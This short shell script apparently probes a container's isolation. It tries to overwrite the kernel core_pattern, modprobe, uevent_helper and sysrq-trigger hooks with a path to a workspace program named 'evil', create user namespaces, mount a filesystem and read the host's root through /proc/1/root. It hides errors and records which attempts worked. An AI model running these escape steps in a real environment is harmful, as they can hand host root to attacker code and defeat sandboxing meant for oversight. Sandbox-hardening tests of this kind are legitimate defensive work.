for path in /proc/sys/kernel/core_pattern /proc/sys/kernel/modprobe /proc/sysrq-trigger /sys/kernel/uevent_helper; do
    printf '|/workspace/evil' > "$path"
done 2>/dev/null
unshare -r true 2>/dev/null && touch namespaces
mount -t tmpfs none /mnt 2>/dev/null && touch mounted
ls /proc/1/root/work /proc/1/root/home 2>/dev/null > seen
exit 0
